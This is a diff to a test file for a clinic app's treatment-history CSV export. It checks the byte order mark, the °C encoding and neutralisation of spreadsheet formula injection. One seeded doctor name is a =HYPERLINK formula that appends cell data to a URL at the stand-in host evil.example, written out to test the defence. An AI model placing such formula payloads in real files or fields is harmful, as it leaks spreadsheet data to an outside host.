@@ -142,6 +142,21 @@ describe("treatment-history export", () => {
     }
   });
 
+  it("writes a file a spreadsheet opens safely: the byte order mark, °C as UTF-8, a formula someone typed as text", async () => {
+    const w = await world();
+    // A doctor's name as an admin typed it leads the summary of their appointments.
+    const evil = await seedUser(db(), { email: "evil@h.org", name: '=HYPERLINK("https://evil.example/?"&A1,"Open")', role: "DOCTOR", password: PW });
+    await db().appointment.create({ data: { patientId: w.patient.id, doctorId: evil.id, startsAt: new Date("2026-06-01T09:00:00Z"), endsAt: new Date("2026-06-01T09:30:00Z"), status: "COMPLETED" } });
+    await db().vitalSign.create({ data: { patientId: w.patient.id, recordedById: w.nurse.id, takenAt: new Date("2026-06-01T09:10:00Z"), temperatureC: 39.1, lockedAt: NOW } });
+    const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
+    await runExport(db(), id);
+    const bytes = Buffer.from((await downloadExport(db(), ctxOf(w.nurse), id)).content);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
+    expect(lines.find((l) => l.includes(",appointment,"))).toMatch(/^[^,]+,appointment,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Open""\) · Completed",,\w+$/);
+    expect(lines.find((l) => l.includes(",vitals,"))).toMatch(/,vitals,T 39\.1 °C,,\w+$/);
+  });
+
   it("lets staff with chart access export any patient, and no one else", async () => {
     const w = await world();
     const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
@@ -156,7 +171,9 @@ describe("treatment-history export", () => {
     const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
     await runExport(db(), id);
     const file = await downloadExport(db(), ctxOf(w.nurse), id);
-    expect(Buffer.from(file.content).toString("utf8").split("\n")[0]).toBe("date,type,résumé,alerte,id");
+    const text = Buffer.from(file.content).toString("utf8");
+    expect(text.startsWith("\uFEFF")).toBe(true);
+    expect(text.slice(1).split("\n")[0]).toBe("date,type,résumé,alerte,id");
     await expect(requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history" })).rejects.toBeInstanceOf(AppError);
     await expect(requestExport(db(), ctxOf(w.other), { kind: "treatment-history", patientId: w.patient.id })).rejects.toMatchObject({ code: "NOT_FOUND" });
   });
